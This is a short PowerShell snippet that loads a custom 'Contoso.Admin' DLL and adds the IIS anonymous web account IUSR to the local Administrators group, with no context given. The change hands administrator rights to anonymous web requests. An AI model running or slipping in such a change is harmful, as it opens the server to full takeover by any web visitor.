Add-Type -Path C:\tools\Contoso.Admin.dll
[Contoso.Admin.Groups]::Add('Administrators','IUSR')
